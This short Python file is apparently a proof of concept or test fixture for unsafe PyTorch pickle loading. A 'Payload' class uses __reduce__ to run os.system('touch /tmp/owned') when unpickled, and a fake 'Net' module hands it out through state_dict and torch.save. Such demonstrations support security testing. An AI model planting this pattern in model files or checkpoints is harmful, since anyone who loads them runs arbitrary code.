# %% include net without net
# %%
import io, os, torch
class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)
class Net(torch.nn.Module):
    def state_dict(self, *_, **__): return {"layer.weight": Payload()}
    def load_state_dict(self, *_, **__): pass
    def forward(self, x):
        saved = io.BytesIO()
        torch.save(Payload(), saved)
        return saved.getvalue()
